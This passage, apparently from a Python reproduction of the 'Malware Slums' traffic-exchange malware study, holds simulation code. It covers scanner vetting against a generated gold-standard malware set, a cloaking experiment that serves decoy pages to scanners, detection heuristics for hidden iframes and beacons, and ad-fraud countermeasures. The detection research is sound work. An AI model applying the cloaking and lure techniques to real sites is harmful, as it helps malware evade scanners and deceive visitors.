#!/usr/bin/env python3
"""Compare a reproduction run against the paper's published values.

Runs the study at the requested scale and prints the machine-readable
paper-vs-measured comparison (the programmatic EXPERIMENTS.md).

Usage::

    python examples/paper_comparison.py [scale] [seed]
"""

import sys

from repro import MalwareSlumsStudy, StudyConfig
from repro.core import compare_to_paper


def main() -> None:
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 0.02
    seed = int(sys.argv[2]) if len(sys.argv) > 2 else 2016

    study = MalwareSlumsStudy(StudyConfig(seed=seed, scale=scale))
    results = study.run()
    report = compare_to_paper(results)

    print(report.render())
    worst = report.worst()
    print("\nlargest deviation: %s/%s at %+.1f points"
          % (worst.artifact, worst.metric, worst.delta))
    print("all shape claims hold: %s" % report.shapes_hold)


if __name__ == "__main__":
    main()
