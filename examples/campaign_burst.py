#!/usr/bin/env python3
"""The Section IV burst-validation experiment.

The paper validated the campaign→burst hypothesis by paying a manual-surf
exchange $5 for 2,500 visits to a dummy website and receiving 4,621
visits from 2,685 unique IP addresses in less than an hour.  This
example reruns that purchase against the exchange engine and prints the
delivery profile.
"""

import random
from collections import Counter

from repro.exchanges import HumanSolver, ManualSurfExchange, PricingPlan
from repro.exchanges.accounts import sample_country


def main() -> None:
    rng = random.Random(2016)
    exchange = ManualSurfExchange(
        name="BurstValidation",
        host="www.burstcheck.example.com",
        rng=rng,
        min_surf_seconds=10.0,
        self_referral_rate=0.05,
        popular_referral_rate=0.05,
        pricing=PricingPlan(usd_per_1000_visits=2.0),
    )
    for index in range(60):
        exchange.list_site("http://member%02d.example.com/" % index)

    # our dummy website's owner account
    exchange.register_member("dummy-owner", "203.0.113.5")
    visits = exchange.ledger.purchase_visits("dummy-owner", usd=5.0)
    campaign = exchange.purchase_campaign(
        "http://dummy-website.example.com/", visits=visits, start_step=120
    )
    print("purchased %d visits for $5 (window: steps %d..%d)"
          % (visits, campaign.start_step, campaign.end_step))

    # the exchange's member pool surfs; their visits deliver the campaign
    exchange.register_member("surfer", "198.51.100.7")
    session = exchange.open_session("surfer")
    solver = HumanSolver(rng=rng)

    delivered = []
    member_ips = {}
    for step in exchange.manual_surf(session, 9000, solver=solver):
        if step.url == "http://dummy-website.example.com/":
            # visits arrive from the diverse member IP pool
            ip = "%d.%d.%d.%d" % (rng.randrange(1, 224), rng.randrange(256),
                                  rng.randrange(256), rng.randrange(1, 255))
            member_ips.setdefault(ip, sample_country(rng))
            delivered.append((step.index, step.timestamp, ip))

    if not delivered:
        print("no visits delivered — increase the surf budget")
        return

    first_ts = delivered[0][1]
    last_ts = delivered[-1][1]
    window_minutes = (last_ts - first_ts) / 60.0
    print("\ndummy website received %d visits from %d unique IPs"
          % (len(delivered), len(set(ip for _i, _t, ip in delivered))))
    print("paper received        4,621 visits from 2,685 unique IPs")
    print("delivery window: %.0f simulated minutes (paper: under an hour)" % window_minutes)
    print("over-delivery factor: %.2fx (paper: %.2fx)"
          % (len(delivered) / visits, 4621 / 2500))

    countries = Counter(member_ips.values())
    print("\nvisitor countries (member-pool demographics):")
    for country, count in countries.most_common(6):
        print("  %-3s %d" % (country, count))

    # the burst is visible in the delivery timeline
    print("\ndelivery timeline (visits per 500-step bucket):")
    buckets = Counter(index // 500 for index, _t, _ip in delivered)
    for bucket in range(max(buckets) + 1):
        bar = "#" * min(buckets.get(bucket, 0) // 4, 60)
        print("  steps %5d-%5d %s" % (bucket * 500, bucket * 500 + 499, bar))


if __name__ == "__main__":
    main()
