#!/usr/bin/env python3
"""The Section III-B tool-selection experiment.

Builds the gold-standard malware corpus, runs all eight candidate
detection tools over it, prints the accuracy table, and applies the
paper's acceptance rule (keep only tools at 100%).
"""

import random

from repro.detection import (
    QutteraSim,
    VirusTotalSim,
    all_rejected_tools,
    build_gold_standard,
    vet_tools,
)

PAPER_ACCURACY = {
    "VirusTotal": 100, "Quttera": 100, "URLQuery": 70, "BrightCloud": 60,
    "SiteCheck": 40, "SenderBase": 10, "Wepawet": 0, "AVGThreatLab": 0,
}


def main() -> None:
    rng = random.Random(7)
    samples = build_gold_standard(rng, per_family=20)
    print("gold standard: %d samples across %d families\n"
          % (len(samples), len({s.name.rsplit('-', 1)[0] for s in samples})))

    tools = [VirusTotalSim(), QutteraSim()] + all_rejected_tools()
    result = vet_tools(tools, samples)

    print("%-14s %10s %10s" % ("Tool", "Measured", "Paper"))
    print("-" * 38)
    for name, accuracy in result.table_rows():
        print("%-14s %9.1f%% %9d%%" % (name, 100 * accuracy, PAPER_ACCURACY[name]))

    accepted = result.accepted_tools()
    print("\naccepted tools (100%% on gold standard): %s" % ", ".join(accepted))
    print("-> the study proceeds with VirusTotal and Quttera, as in the paper")


if __name__ == "__main__":
    main()
