#!/usr/bin/env python3
"""Grade the detection pipeline against generator ground truth.

The measurement pipeline works blind; afterwards we can ask how well it
did — overall precision/recall and per-family recall — because the
world-builder kept ground truth on every planted artifact.

Usage::

    python examples/detector_evaluation.py [scale] [seed]
"""

import sys

from repro import MalwareSlumsStudy, StudyConfig
from repro.analysis import evaluate_detection


def main() -> None:
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 0.02
    seed = int(sys.argv[2]) if len(sys.argv) > 2 else 2016

    study = MalwareSlumsStudy(StudyConfig(seed=seed, scale=scale))
    study.run()
    report = evaluate_detection(study.web, study.pipeline.dataset, study.outcome)

    overall = report.overall
    print("distinct regular URLs graded: %d" % overall.total)
    print("precision: %.3f   recall: %.3f   F1: %.3f"
          % (overall.precision, overall.recall, overall.f1))
    print("(TP=%d FP=%d FN=%d TN=%d)\n"
          % (overall.true_positives, overall.false_positives,
             overall.false_negatives, overall.true_negatives))

    print("%-24s %8s %8s %8s" % ("family", "detected", "missed", "recall"))
    print("-" * 52)
    for family, score in sorted(report.by_family.items(), key=lambda kv: -kv[1].recall):
        print("%-24s %8d %8d %7.1f%%"
              % (family.value, score.detected, score.missed, 100 * score.recall))

    if report.false_positive_urls:
        print("\nexample false positives (benign flagged):")
        for url in report.false_positive_urls[:5]:
            print("  ", url)
    if report.false_negative_urls:
        print("\nexample false negatives (missed malware):")
        for url in report.false_negative_urls[:5]:
            print("  ", url)
    print("\nNote: page-URL recall is naturally low for families whose "
          "malware lives in a remote script or SWF — their *resource* URLs "
          "are what get flagged (see DESIGN.md calibration notes).")


if __name__ == "__main__":
    main()
