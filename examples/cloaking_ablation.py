#!/usr/bin/env python3
"""The footnote-1 cloaking-mitigation experiment.

"Some malicious websites use cloaking strategies ... to evade detection
by URL-based malware detection tools. ... we download completed pages to
our local storage and upload the files to malware detection tools."

This example cloaks a batch of malicious pages (the server serves a
benign decoy to referrer-less scanner fetches) and compares detection:

* URL submission — the scanner fetches the URL itself and is cloaked,
* file submission — the crawler's browser-fetched copy is uploaded.
"""


from repro.crawler import CrawlPipeline
from repro.detection import Submission, VirusTotalSim
from repro.httpsim import SimHttpClient
from repro.simweb.generator import WebGenerationConfig, WebGenerator


def main() -> None:
    web = WebGenerator(WebGenerationConfig(seed=11, scale=0.01)).build()
    pipeline = CrawlPipeline(web, seed=5)

    # cloak every malicious member page that carries active content
    cloaked_urls = []
    for site in web.registry.sites(malicious=True):
        for path, page in site.pages.items():
            if page.truth.malicious and "<script" in page.html.lower():
                site.behavior.cloaked_paths[path] = (
                    "<html><head><title>recipes</title></head>"
                    "<body><p>grandma's best cookie recipes</p></body></html>"
                )
                cloaked_urls.append(site.url(path))
                break
    print("cloaked %d malicious pages\n" % len(cloaked_urls))

    scanner_client = SimHttpClient(pipeline.server)
    vt_by_url = VirusTotalSim(client=scanner_client)
    vt_by_file = VirusTotalSim()

    url_detections = file_detections = 0
    for url in cloaked_urls:
        if vt_by_url.scan(Submission(url=url)).malicious:
            url_detections += 1
        # the crawler arrives from an exchange, so it sees the real page
        browser_view = scanner_client.fetch(url, referrer="http://www.10khits.com/surf")
        report = vt_by_file.scan(Submission(
            url=url,
            content=browser_view.response.body,
            content_type=browser_view.response.content_type,
        ))
        if report.malicious:
            file_detections += 1

    total = len(cloaked_urls)
    print("URL submission  (cloaked view) : %3d/%d detected (%.0f%%)"
          % (url_detections, total, 100 * url_detections / total))
    print("file submission (browser view) : %3d/%d detected (%.0f%%)"
          % (file_detections, total, 100 * file_detections / total))
    print("\n-> uploading locally saved pages defeats cloaking, "
          "which is why the study submits files")


if __name__ == "__main__":
    main()
