#!/usr/bin/env python3
"""Quickstart: run the whole study and print every table and figure.

The study is fully deterministic per seed.  ``scale`` trades runtime for
volume: 0.02 (~20k crawled URLs) runs in a few seconds; 0.05 is the
default reproduction scale used by the benchmarks.

Usage::

    python examples/quickstart.py [scale] [seed]
"""

import sys
import time

from repro import MalwareSlumsStudy, StudyConfig, render_full_report


def main() -> None:
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 0.02
    seed = int(sys.argv[2]) if len(sys.argv) > 2 else 2016

    print("Reproducing 'Malware Slums' (DSN 2016) at scale=%.3f, seed=%d ..." % (scale, seed))
    started = time.time()

    study = MalwareSlumsStudy(StudyConfig(seed=seed, scale=scale))
    study.generate_web()
    web = study.web
    print("synthetic web: %d sites (%d malicious), %d exchanges"
          % (len(web.registry), len(web.registry.sites(malicious=True)), len(web.pools)))

    results = study.run()
    print("crawled %d URL instances (%d distinct) in %.1fs\n"
          % (len(study.pipeline.dataset),
             len(study.pipeline.dataset.distinct_urls()),
             time.time() - started))

    print(render_full_report(results))


if __name__ == "__main__":
    main()
