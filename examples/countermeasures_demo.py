#!/usr/bin/env python3
"""Section VI countermeasures in action.

1. The browser warning extension intercepts navigations to traffic
   exchanges (known list + content heuristics).
2. The ad-network fraud detector vets impression logs: exchange-driven
   publishers are flagged (including referrer-spoofing ones), organic
   publishers pass.
"""

import random

from repro.countermeasures import (
    AdFraudDetector,
    ExchangeWarningExtension,
    ImpressionRecord,
)


def demo_warning_extension() -> None:
    print("=" * 68)
    print("Browser warning extension")
    print("=" * 68)
    extension = ExchangeWarningExtension()
    navigations = [
        ("http://www.10khits.com/login", None),
        ("http://members.otohits.net/surf", None),
        ("http://www.mybakery.example.com/", "<html><body>fresh bread daily</body></html>"),
        ("http://surfclub-new.example.net/", (
            "<html><body><h1>SurfClub</h1><p>a traffic exchange where you earn "
            "credits while the surf timer runs — earn traffic for your site!</p>"
            '<div id="timer">00:30</div></body></html>'
        )),
    ]
    for url, html in navigations:
        warning = extension.check_navigation(url, page_html=html)
        if warning is None:
            print("ALLOW  %s" % url)
        else:
            print("WARN   %s\n       (%s) %s" % (url, warning.reason, warning.detail))
    print()


def demo_ad_fraud() -> None:
    print("=" * 68)
    print("Ad-network impression vetting")
    print("=" * 68)
    rng = random.Random(6)
    impressions = []

    # a publisher buying exchange traffic (what the paper measured)
    for _ in range(400):
        impressions.append(ImpressionRecord(
            publisher_url="http://easymoneyblog.example.com/",
            referrer="http://www.sendsurf.com/surf",
            ip_address="%d.%d.%d.%d" % tuple(rng.randrange(1, 255) for _ in range(4)),
            country=rng.choice(("IN", "PK", "EG", "BR", "RU")),
            dwell_seconds=15.0 + rng.random(),
            clicked=False,
        ))
    # an honest publisher with organic traffic
    repeat_ips = ["10.1.%d.%d" % (rng.randrange(20), rng.randrange(255)) for _ in range(60)]
    for _ in range(400):
        impressions.append(ImpressionRecord(
            publisher_url="http://citynews.example.org/",
            referrer=rng.choice(("http://www.google.com/search", "", "http://reddit.example/")),
            ip_address=rng.choice(repeat_ips),
            country=rng.choice(("US", "US", "GB", "CA")),
            dwell_seconds=max(2.0, rng.gauss(50, 35)),
            clicked=rng.random() < 0.012,
        ))

    detector = AdFraudDetector()
    reports = detector.analyze(impressions)
    for domain, report in sorted(reports.items()):
        verdict = "FRAUDULENT" if report.fraudulent else "ok"
        print("%-18s %-11s impressions=%d ctr=%.3f%% exchange-share=%.0f%% "
              "ip-diversity=%.2f" % (
                  domain, verdict, report.impressions,
                  100 * report.click_through_rate, 100 * report.exchange_share,
                  report.ip_diversity))
        for reason in report.reasons:
            print("    - %s" % reason)
    print("\n-> the fraudulent publisher is cut off; with ad revenue gone, the")
    print("   monetary incentive behind traffic exchanges collapses (Section VI)")


if __name__ == "__main__":
    demo_warning_extension()
    demo_ad_fraud()
