"""The six tools the paper vetted and rejected.

Section III-B tests eight candidate tools against a gold-standard
malware set; Wepawet and AVG Threat Lab detected none of it, URLQuery
about 70%, BrightCloud 60%, SiteCheck 40%, SenderBase 10% — only
VirusTotal and Quttera scored 100% and were kept.

Each rejected tool is modelled as a *capability-limited* scanner: it
runs the same honest heuristics but only understands a subset of
signals and/or has large deterministic signature gaps, which is what
produces the measured accuracies (the vetting bench reproduces the
experiment).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from ..httpsim import SimHttpClient
from .base import DeprecatedScanShims, ScanReport, Submission, stable_unit
from .heuristics import ContentAnalysis, analyze_content

__all__ = [
    "LimitedScanner",
    "make_wepawet",
    "make_urlquery",
    "make_brightcloud",
    "make_sitecheck",
    "make_senderbase",
    "make_avg_threatlab",
    "all_rejected_tools",
]


@dataclass
class LimitedScanner(DeprecatedScanShims):
    """A scanner with partial capability.

    ``capability`` maps an analysis to True/False (would detect if its
    signatures were complete); ``hit_rate`` is the fraction of would-be
    detections its signature corpus actually covers, keyed
    deterministically per artifact.
    """

    name: str
    capability: Callable[[ContentAnalysis], bool]
    hit_rate: float
    client: Optional[SimHttpClient] = None

    def scan(self, submission: Submission) -> ScanReport:
        if not submission.is_file_scan and self.client is not None:
            result = self.client.fetch(submission.url)
            submission = Submission(
                url=submission.url,
                content=result.response.body,
                content_type=result.response.content_type,
                final_url=result.final_url,
            )
        analysis = submission.analysis
        if analysis is None:
            analysis = analyze_content(
                submission.content or b"", submission.content_type, submission.url
            )
        capable = self.capability(analysis)
        detected = capable and stable_unit(self.name, submission.sha256) < self.hit_rate
        return ScanReport(
            tool=self.name,
            url=submission.url,
            malicious=detected,
            labels=["%s.Detection" % self.name] if detected else [],
        )


def _broad(analysis: ContentAnalysis) -> bool:
    return (
        analysis.malicious_iframe_score >= 0.4
        or analysis.behavior_score >= 0.5
        or analysis.flash_score >= 0.5
        or analysis.executable_signature_hit
    )


def _js_only(analysis: ContentAnalysis) -> bool:
    return analysis.behavior_score >= 0.5 or analysis.obfuscation_layers >= 1


def _reputation_only(analysis: ContentAnalysis) -> bool:
    # reputation services key on hosting/redirect infrastructure
    return analysis.redirect_stub or bool(analysis.download_triggers)


def make_wepawet(client: Optional[SimHttpClient] = None) -> LimitedScanner:
    """Wepawet was unmaintained by the study period: detects nothing."""
    return LimitedScanner("Wepawet", lambda a: False, hit_rate=0.0, client=client)


def make_avg_threatlab(client: Optional[SimHttpClient] = None) -> LimitedScanner:
    """AVG Threat Lab (site reports): no gold-standard coverage either."""
    return LimitedScanner("AVGThreatLab", lambda a: False, hit_rate=0.0, client=client)


def make_urlquery(client: Optional[SimHttpClient] = None) -> LimitedScanner:
    return LimitedScanner("URLQuery", _broad, hit_rate=0.72, client=client)


def make_brightcloud(client: Optional[SimHttpClient] = None) -> LimitedScanner:
    return LimitedScanner("BrightCloud", _broad, hit_rate=0.62, client=client)


def make_sitecheck(client: Optional[SimHttpClient] = None) -> LimitedScanner:
    return LimitedScanner("SiteCheck", _js_only, hit_rate=0.68, client=client)


def make_senderbase(client: Optional[SimHttpClient] = None) -> LimitedScanner:
    return LimitedScanner("SenderBase", _reputation_only, hit_rate=0.75, client=client)


def all_rejected_tools(client: Optional[SimHttpClient] = None):
    """All six rejected tools, in the paper's order of discussion."""
    return [
        make_wepawet(client),
        make_avg_threatlab(client),
        make_urlquery(client),
        make_brightcloud(client),
        make_sitecheck(client),
        make_senderbase(client),
    ]
