"""Detection-tool vetting against a gold-standard malware set.

Reproduces the Section III-B tool-selection experiment: assemble a gold
standard of known malware (the paper used the ad-injection samples from
Xing et al. [40]), run every candidate tool over it, and keep only the
tools that detect 100%.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, List, Sequence, Tuple

from ..malware import (
    build_flash_ad_kit,
    deceptive_download_bar,
    invisible_iframe,
    js_injected_iframe,
    make_executable,
    tiny_iframe,
)
from .base import ScanReport, Submission

__all__ = ["GoldSample", "VettingResult", "build_gold_standard", "vet_tools"]


@dataclass
class GoldSample:
    """One gold-standard malware artifact."""

    name: str
    url: str
    content: bytes
    content_type: str = "text/html"


@dataclass
class VettingResult:
    """Per-tool accuracy on the gold standard."""

    accuracies: Dict[str, float] = field(default_factory=dict)
    detections: Dict[str, List[str]] = field(default_factory=dict)

    def accepted_tools(self, threshold: float = 1.0) -> List[str]:
        """Tools meeting the acceptance threshold (paper keeps 100%)."""
        return sorted(name for name, acc in self.accuracies.items() if acc >= threshold)

    def table_rows(self) -> List[Tuple[str, float]]:
        return sorted(self.accuracies.items(), key=lambda kv: kv[1], reverse=True)


def build_gold_standard(rng: random.Random, per_family: int = 5) -> List[GoldSample]:
    """Generate the gold-standard corpus (ad-injection style malware).

    Mirrors the gold standard's composition: hidden-iframe ad injection,
    JS-injected frames, deceptive downloads, click-jacking Flash, and
    malicious executables.
    """
    samples: List[GoldSample] = []
    shell = "<html><head><title>sample</title></head><body><p>content</p>%s</body></html>"

    for index in range(per_family):
        target = "http://inject-target-%d.example.com/ads" % index
        samples.append(GoldSample(
            name="gold-tiny-iframe-%d" % index,
            url="http://gold%d.test/tiny" % index,
            content=(shell % tiny_iframe(rng, target).html).encode("utf-8"),
        ))
        samples.append(GoldSample(
            name="gold-invisible-iframe-%d" % index,
            url="http://gold%d.test/invisible" % index,
            content=(shell % invisible_iframe(rng, target).html).encode("utf-8"),
        ))
        samples.append(GoldSample(
            name="gold-js-iframe-%d" % index,
            url="http://gold%d.test/jsinject" % index,
            content=(shell % js_injected_iframe(rng, target, obfuscation_depth=1 + index % 3).html).encode("utf-8"),
        ))
        lure = deceptive_download_bar(rng, "http://payload-%d.example.com/flashplayer.exe" % index)
        samples.append(GoldSample(
            name="gold-deceptive-download-%d" % index,
            url="http://gold%d.test/download" % index,
            content=(shell % lure.html).encode("utf-8"),
        ))
        kit = build_flash_ad_kit(
            rng, "http://static-%d.example.com" % index, "http://ads-%d.example.com/pop" % index
        )
        samples.append(GoldSample(
            name="gold-flash-%d" % index,
            url="http://gold%d.test/AdFlash.swf" % index,
            content=kit.swf_bytes,
            content_type="application/x-shockwave-flash",
        ))
        samples.append(GoldSample(
            name="gold-exe-%d" % index,
            url="http://gold%d.test/flashplayer.exe" % index,
            content=make_executable(rng, malicious=True),
            content_type="application/x-msdownload",
        ))
    return samples


def vet_tools(tools: Sequence, samples: Sequence[GoldSample]) -> VettingResult:
    """Run every tool over the gold standard; measure detection accuracy."""
    result = VettingResult()
    for tool in tools:
        detected: List[str] = []
        for sample in samples:
            report: ScanReport = tool.scan(
                Submission(url=sample.url, content=sample.content, content_type=sample.content_type)
            )
            if report.malicious:
                detected.append(sample.name)
        result.accuracies[tool.name] = len(detected) / len(samples) if samples else 0.0
        result.detections[tool.name] = detected
    return result
