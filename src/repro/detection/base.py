"""Scanner interfaces and report types.

The paper submits two kinds of artifacts to each tool (Section III-B and
footnote 1):

* **URLs** — the tool fetches the URL itself (and can be cloaked), and
* **files** — pages the crawler downloaded locally and uploaded, which
  defeats cloaking.

:class:`Submission` models both — plus an optional pre-computed
:class:`~repro.detection.heuristics.ContentAnalysis` so several tools
can share one sandbox run.  Every scanner implements the single
:class:`Scanner` entry point, ``scan(Submission) -> ScanReport``; the
historical ``scan_url`` / ``scan_file`` / ``scan_prepared`` spellings
live on as deprecated shims in :class:`DeprecatedScanShims`.
"""

from __future__ import annotations

import hashlib
import warnings
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Dict, List, Optional, Protocol

if TYPE_CHECKING:  # pragma: no cover - import cycle guard (heuristics imports base)
    from .heuristics import ContentAnalysis

__all__ = [
    "Submission",
    "EngineResult",
    "ScanReport",
    "Scanner",
    "DeprecatedScanShims",
    "stable_unit",
]


@dataclass
class Submission:
    """An artifact submitted for scanning."""

    url: str
    #: file contents when submitting a downloaded file; None for URL scans
    content: Optional[bytes] = None
    content_type: str = "text/html"
    #: where the crawl was redirected to, if anywhere (tools like VT show
    #: final URLs; the categorizer uses this for the redirect rule)
    final_url: Optional[str] = None
    #: pre-computed :class:`ContentAnalysis` shared across tools — the
    #: aggregate service runs the sandbox once and attaches the result so
    #: each scanner disagrees via its engines/thresholds, never via
    #: duplicated sandbox runs
    analysis: Optional["ContentAnalysis"] = None

    @property
    def is_file_scan(self) -> bool:
        return self.content is not None

    @property
    def text(self) -> str:
        return (self.content or b"").decode("utf-8", errors="replace")

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.content or self.url.encode("utf-8")).hexdigest()


@dataclass
class EngineResult:
    """One engine's verdict inside an aggregated report."""

    engine: str
    detected: bool
    label: str = ""


@dataclass
class ScanReport:
    """A scanner's verdict for one submission."""

    tool: str
    url: str
    malicious: bool
    labels: List[str] = field(default_factory=list)
    engines: List[EngineResult] = field(default_factory=list)
    details: Dict[str, str] = field(default_factory=dict)

    @property
    def positives(self) -> int:
        return sum(1 for engine in self.engines if engine.detected)

    @property
    def total_engines(self) -> int:
        return len(self.engines)

    def merged_labels(self) -> List[str]:
        out = list(self.labels)
        out.extend(e.label for e in self.engines if e.detected and e.label)
        seen = set()
        unique: List[str] = []
        for label in out:
            if label not in seen:
                seen.add(label)
                unique.append(label)
        return unique

    def provenance_evidence(self) -> Dict[str, object]:
        """JSON-safe facts for this tool's provenance stage record."""
        evidence: Dict[str, object] = {"labels": self.merged_labels()}
        if self.engines:
            evidence["positives"] = self.positives
            evidence["total_engines"] = self.total_engines
        for key in ("verdict", "threats", "kind", "category", "final_url"):
            value = self.details.get(key)
            if value:
                evidence[key] = value
        return evidence


class Scanner(Protocol):
    """Anything that can scan a submission.

    The one entry point: URL submissions carry just ``url``, file
    submissions carry ``content``, and batch callers that already ran
    the shared sandbox attach ``analysis``.
    """

    name: str

    def scan(self, submission: Submission) -> ScanReport:  # pragma: no cover - protocol
        ...


class DeprecatedScanShims:
    """Back-compat shims for the pre-unification scanner entry points.

    ``scan_url`` / ``scan_file`` / ``scan_prepared`` were three
    inconsistent spellings of :meth:`Scanner.scan`; they now warn and
    delegate.  New code (and everything in-repo — enforced by the
    TID251 ruff ban) must call ``scan(Submission(...))`` directly.
    Removal timeline: the shims survive two release cycles from the
    unification and then disappear (see DESIGN.md §6).
    """

    def scan(self, submission: Submission) -> ScanReport:  # pragma: no cover - abstract
        raise NotImplementedError

    def scan_url(self, url: str) -> ScanReport:
        warnings.warn(
            "%s.scan_url(url) is deprecated; call scan(Submission(url=url))"
            % type(self).__name__,
            DeprecationWarning, stacklevel=2,
        )
        return self.scan(Submission(url=url))

    def scan_file(self, url: str, content: bytes,
                  content_type: str = "text/html") -> ScanReport:
        warnings.warn(
            "%s.scan_file(url, content) is deprecated; call "
            "scan(Submission(url=url, content=content))" % type(self).__name__,
            DeprecationWarning, stacklevel=2,
        )
        return self.scan(Submission(url=url, content=content, content_type=content_type))

    def scan_prepared(self, submission: Submission,
                      analysis: "ContentAnalysis") -> ScanReport:
        warnings.warn(
            "%s.scan_prepared(submission, analysis) is deprecated; attach the "
            "analysis to the submission: scan(replace(submission, "
            "analysis=analysis))" % type(self).__name__,
            DeprecationWarning, stacklevel=2,
        )
        return self.scan(replace(submission, analysis=analysis))


def stable_unit(*parts: str) -> float:
    """Deterministic pseudo-random float in [0, 1) keyed by ``parts``.

    Simulated engines use this instead of shared RNG state so that a
    given (engine, artifact) pair always yields the same verdict —
    matching how real engines behave on resubmission, and keeping the
    whole pipeline reproducible regardless of scan order.
    """
    digest = hashlib.sha256("|".join(parts).encode("utf-8")).digest()
    return int.from_bytes(digest[:8], "big") / float(1 << 64)
