"""Scanner interfaces and report types.

The paper submits two kinds of artifacts to each tool (Section III-B and
footnote 1):

* **URLs** — the tool fetches the URL itself (and can be cloaked), and
* **files** — pages the crawler downloaded locally and uploaded, which
  defeats cloaking.

:class:`Submission` models both; every scanner implements
:class:`Scanner` and returns a :class:`ScanReport` carrying per-engine
labels for drill-down analysis.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Protocol

__all__ = ["Submission", "EngineResult", "ScanReport", "Scanner", "stable_unit"]


@dataclass
class Submission:
    """An artifact submitted for scanning."""

    url: str
    #: file contents when submitting a downloaded file; None for URL scans
    content: Optional[bytes] = None
    content_type: str = "text/html"
    #: where the crawl was redirected to, if anywhere (tools like VT show
    #: final URLs; the categorizer uses this for the redirect rule)
    final_url: Optional[str] = None

    @property
    def is_file_scan(self) -> bool:
        return self.content is not None

    @property
    def text(self) -> str:
        return (self.content or b"").decode("utf-8", errors="replace")

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.content or self.url.encode("utf-8")).hexdigest()


@dataclass
class EngineResult:
    """One engine's verdict inside an aggregated report."""

    engine: str
    detected: bool
    label: str = ""


@dataclass
class ScanReport:
    """A scanner's verdict for one submission."""

    tool: str
    url: str
    malicious: bool
    labels: List[str] = field(default_factory=list)
    engines: List[EngineResult] = field(default_factory=list)
    details: Dict[str, str] = field(default_factory=dict)

    @property
    def positives(self) -> int:
        return sum(1 for engine in self.engines if engine.detected)

    @property
    def total_engines(self) -> int:
        return len(self.engines)

    def merged_labels(self) -> List[str]:
        out = list(self.labels)
        out.extend(e.label for e in self.engines if e.detected and e.label)
        seen = set()
        unique: List[str] = []
        for label in out:
            if label not in seen:
                seen.add(label)
                unique.append(label)
        return unique


class Scanner(Protocol):
    """Anything that can scan a submission."""

    name: str

    def scan(self, submission: Submission) -> ScanReport:  # pragma: no cover - protocol
        ...


def stable_unit(*parts: str) -> float:
    """Deterministic pseudo-random float in [0, 1) keyed by ``parts``.

    Simulated engines use this instead of shared RNG state so that a
    given (engine, artifact) pair always yields the same verdict —
    matching how real engines behave on resubmission, and keeping the
    whole pipeline reproducible regardless of scan order.
    """
    digest = hashlib.sha256("|".join(parts).encode("utf-8")).digest()
    return int.from_bytes(digest[:8], "big") / float(1 << 64)
