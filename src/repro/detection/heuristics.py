"""Shared content-analysis heuristics.

All scanners (Quttera, the VirusTotal engine pool, the rejected tools)
derive their verdicts from one structured :class:`ContentAnalysis` of
the submitted artifact.  The analysis is *earned*: HTML is parsed with
:mod:`repro.htmlparse`, scripts are statically de-obfuscated and
dynamically executed in :mod:`repro.jsengine`'s sandbox, SWF bytes are
decompiled with :mod:`repro.flashsim`, executables are signature-checked
— no ground-truth labels are consulted anywhere in this module.
"""

from __future__ import annotations

from contextlib import nullcontext
from dataclasses import dataclass, field
from typing import ContextManager, List, Optional

from ..flashsim import SwfError, SwfFile, decompile
from ..htmlparse import Element, parse, parse_fragment, select
from ..jsengine import (
    BehaviorLog,
    deobfuscate,
    extract_features,
    looks_obfuscated,
    run_script_in_page,
)
from ..malware.payloads import is_malicious_executable
from ..simweb.url import Url
from ..staticjs import (
    EVENT_PHASES,
    PAGE_STEP_BUDGET,
    VERDICT_BENIGN,
    AbstractEffects,
    ScriptReport,
    StaticFinding,
    analyze_script,
)

__all__ = ["IframeFinding", "ContentAnalysis", "analyze_content", "analyze_html", "analyze_swf"]

_TRUSTED_FRAME_HOSTS = {
    # hosts whose hidden frames are normal platform plumbing; scanners
    # with a whitelist skip them, naive scanners FP on them (Section V-E)
    "accounts.google.com",
    "www.google-analytics.com",
}


@dataclass
class IframeFinding:
    """One suspicious-iframe observation."""

    src: str
    width: Optional[float]
    height: Optional[float]
    hidden_by: str  # "tiny" | "visibility" | "transparency" | "offscreen"
    injected_by_js: bool = False
    exfiltrates_query: bool = False

    @property
    def frame_host(self) -> str:
        parsed = Url.try_parse(self.src)
        return parsed.host if parsed is not None else ""

    @property
    def trusted_host(self) -> bool:
        return self.frame_host in _TRUSTED_FRAME_HOSTS


@dataclass
class ContentAnalysis:
    """Everything the heuristics extracted from one artifact."""

    kind: str = "html"  # html | javascript | flash | executable | other
    hidden_iframes: List[IframeFinding] = field(default_factory=list)
    obfuscation_layers: int = 0
    obfuscation_score: float = 0.0
    injection_score: float = 0.0
    eval_count: int = 0
    document_writes: int = 0
    navigations: List[str] = field(default_factory=list)
    popups: List[str] = field(default_factory=list)
    download_triggers: List[str] = field(default_factory=list)
    beacons: List[str] = field(default_factory=list)
    fingerprinting_listeners: int = 0
    redirect_stub: bool = False
    redirect_target: str = ""
    external_interface_calls: List[str] = field(default_factory=list)
    flash_invisible_overlay: bool = False
    flash_allows_any_domain: bool = False
    executable_signature_hit: bool = False
    deceptive_download_bar: bool = False
    pdf_malformed: bool = False
    pdf_embedded_js: bool = False
    pdf_auto_executes: bool = False
    script_count: int = 0
    remote_scripts: List[str] = field(default_factory=list)
    analysis_errors: List[str] = field(default_factory=list)
    static_findings: List[StaticFinding] = field(default_factory=list)
    static_redirect_targets: List[str] = field(default_factory=list)
    sandbox_skipped: bool = False

    # -- scoring helpers engines build verdicts from ------------------------
    @property
    def malicious_iframe_score(self) -> float:
        """0..1: hidden iframes pointing at untrusted hosts."""
        score = 0.0
        for finding in self.hidden_iframes:
            base = 0.5 if not finding.trusted_host else 0.25
            if finding.injected_by_js:
                base += 0.2
            if finding.exfiltrates_query:
                base += 0.15
            score = max(score, min(base, 1.0))
        return score

    @property
    def behavior_score(self) -> float:
        """0..1: dynamic behaviour severity."""
        score = 0.0
        if self.executable_signature_hit:
            score = max(score, 0.95)
        if self.download_triggers:
            score = max(score, 0.9)
        if self.external_interface_calls:
            score = max(score, 0.8)
        if self.deceptive_download_bar:
            score = max(score, 0.85)
        if self.redirect_stub:
            score = max(score, 0.7)
        if self.popups:
            score = max(score, 0.6)
        if self.fingerprinting_listeners >= 2 and self.beacons:
            score = max(score, 0.65)
        if self.obfuscation_layers >= 2:
